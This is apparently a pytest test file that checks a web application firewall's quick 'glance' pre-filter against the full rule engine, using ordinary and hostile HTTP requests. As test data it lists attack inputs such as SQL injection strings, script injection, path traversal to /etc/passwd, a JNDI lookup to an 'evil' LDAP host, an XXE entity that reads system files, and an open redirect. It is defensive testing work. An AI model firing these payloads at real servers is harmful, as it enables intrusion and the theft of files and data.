"""What passes at a glance: nothing that a transaction would find something in, and nearly all that people send."""

from __future__ import annotations

import random
from pathlib import Path
from typing import Any

import pytest

from bascule.config.waf import WafConfig
from bascule.http.h1.head import RequestParser
from bascule.http.message import RequestHead
from bascule.proxy.firewall import settings_of
from bascule.waf.engine import ConnectionFacts, Waf
from benchmarks import traffic

USUAL = traffic.page(random.Random(7)).replace(traffic.SLOT, "0000000001").encode()
TARGETS = (
    b"/", b"/a.css", b"/app.js?v=1.2", b"/a%20b", b"/~user/", b"/.well-known/x", b"/.git/config", b"/%2egit/config",
    b"/site.bak", b"/index.php~", b"/wp-config.php.old", b"/?q=1' or '1'='1", b"/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    b"/?f=../../etc/passwd", b"/?a=1&a=2", b"/?a==b", b"/?next=//evil.example", b"/" + b"\x90" * 20, b"/?x=%90" * 9,
    b"/%c0%ae%c0%ae/", b"/%00", b"/?q=union+select+password+from+users", b"/?q=the+union+will+select", b"/?x={{7*7}}",
)  # fmt: skip
FIELDS = (
    b"", b"Cookie: a=b; c=d\r\n", b"Cookie: a=1' or '1'='1\r\n", b"Cookie: a=b=c\r\n", b"Referer: http://x/?q=<script>\r\n",
    b"Referer: https://x.example/a/b\r\n", b"X-Original-URL: /admin\r\n", b"User-Agent: sqlmap/1.7\r\n",
    b"X-Api: ${jndi:ldap://evil/a}\r\n", b"Authorization: a\r\nAuthorization: b\r\n", b"Content-Length: 0\r\n",
    b"Range: bytes=" + b"0-1," * 80 + b"\r\n", b"X-Name: O'Brien\r\n",
)  # fmt: skip
METHODS = (b"GET", b"POST", b"TRACE", b"PROPFIND", b"HEAD")
BODIES = (
    (b"application/x-www-form-urlencoded", b"name=Ann&city=Bonn"),
    (b"application/x-www-form-urlencoded", b"name=1%27+or+%271%27%3D%271"),
    (b"application/json", b'{"a": {"b": [1, "two words"]}}'),
    (b"application/json", b'{"a": {"$where": "sleep(9)"}}'),
    (b"application/json", b'{"a": "<svg onload=alert(1)>"}'),
    (b"application/json", b'{"a": '),
    (b"text/plain; charset=utf-16", "a=<script>alert(1)</script>".encode("utf-16")),
    (b"multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name=f; filename="a.php"\r\n\r\nx\r\n--x--'),
    (b"text/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    (b"", b"q=<script>alert(1)</script>"),
)  # fmt: skip


def firewall(preset: str = "standard", **waf: Any) -> Waf:
    return Waf.load(settings_of(WafConfig.model_validate({"mode": "block", "preset": preset, **waf})))


def finds(waf: Waf, head: RequestHead, body: bytes = b"") -> bool:
    """Whether a transaction finds something in a request."""
    transaction = waf.begin(ConnectionFacts(b"192.0.2.7", 4711, b"127.0.0.1", 80))
    fields = [(field[0], field[1]) for field in head.fields]
    transaction.request_head(head.method, head.line_target, b"1.1", fields)
    if body:
        transaction.request_body(body)
    transaction.request_end()
    return bool(transaction.fired or transaction.notes or transaction.verdict)


def heads() -> list[RequestHead]:
    """Every target with usual fields, every field and method with a usual target."""
    usual = USUAL.partition(b"\r\n")[2]
    texts = [b"GET %b HTTP/1.1\r\n%b" % (target, usual) for target in TARGETS]
    texts += [b"%b /a?b=c HTTP/1.1\r\nHost: x\r\n%b\r\n" % (method, field) for method in METHODS for field in FIELDS]
    found = []
    for text in texts:
        line = text.replace(b" HTTP/1.1", b"\0", 1).partition(b"\0")
        method, _, target = line[0].partition(b" ")
        found.append(RequestParser().parse(b"%b %b HTTP/1.1%b" % (method, target.replace(b" ", b"+"), line[2])))
    return found


@pytest.mark.parametrize("preset", ["basic", "standard", "advanced"])
def test_nothing_passes_at_a_glance_in_which_something_is_found(preset: str) -> None:
    waf = firewall(preset)
    assert waf.glance is not None
    passed = found = 0
    for head in heads():
        if waf.glance.passes(head) is not None:
            passed += 1
            assert not finds(waf, head), (head.line_target, head.fields)
        else:
            found += finds(waf, head)
    assert passed > 20
    assert found > 12


def test_no_body_passes_at_a_glance_in_which_something_is_found() -> None:
    waf = firewall()
    assert waf.glance is not None
    passed = []
    for kind, body in BODIES:
        line = b"Content-Type: %b\r\n" % kind if kind else b""
        text = b"POST / HTTP/1.1\r\nHost: x\r\n%bContent-Length: %d\r\n\r\n" % (line, len(body))
        head = RequestParser().parse(text)
        steady = waf.glance.passes(head)
        assert steady is not None
        if waf.glance.passes_body(head.method, steady, body):
            passed.append(body)
            assert not finds(waf, head, body), body
    assert passed == [BODIES[0][1], BODIES[2][1]]


@pytest.mark.parametrize("make", [traffic.page, traffic.checkout, traffic.order])
def test_what_people_send_passes_at_a_glance(make: Any) -> None:
    waf = firewall()
    assert waf.glance is not None
    rng, parser = random.Random(3), RequestParser()
    for number in range(50):
        head, end, body = make(rng).replace(traffic.SLOT, f"{number:010}").encode().partition(b"\r\n\r\n")
        parsed = parser.parse(head + end)
        steady = waf.glance.passes(parsed)
        assert steady is not None, head
        assert not body or waf.glance.passes_body(parsed.method, steady, body), body


@pytest.mark.parametrize(
    "waf",
    [
        {"preset": "block-all"},
        {"preset": "pci-dss"},
        {"filters": {"lengths": {"path": 100}}},
        {"filters": {"fields": {"deny": ["referer"]}}},
        {"filters": {"words": ["boo"]}},
        {"response": {"decoys": {}}},
    ],
)
def test_there_is_no_glance_where_rules_look_further(waf: dict[str, Any]) -> None:
    assert firewall(**waf).glance is None


def test_exclusions_only_take_away_from_what_is_found() -> None:
    exclusion = {"rules": ["1-999999"], "path": "/free", "reason": "r", "owner": "o"}
    waf = firewall(exclusions=[exclusion])
    assert waf.glance is not None
    attack, usual = b"?q=1'+union+select+password+from+users--", USUAL.partition(b"\r\n")[2]
    heads = {
        target: RequestParser().parse(b"GET %b HTTP/1.1\r\n%b" % (target, usual))
        for target in (b"/free", b"/free" + attack, b"/" + attack)
    }
    assert [waf.glance.passes(head) is not None for head in heads.values()] == [True, False, False]
    assert [finds(waf, head) for head in heads.values()] == [False, False, True]


def test_rules_in_seclang_keep_an_account_of_every_request(tmp_path: Path) -> None:
    file = tmp_path / "rules.conf"
    for text in ('SecAction "id:1,phase:1,pass"', "SecAuditEngine On", "SecRequestBodyAccess Off", "SecRuleEngine Off"):
        file.write_text(text)
        assert firewall(rules="both", directives=[str(file)]).glance is None, text
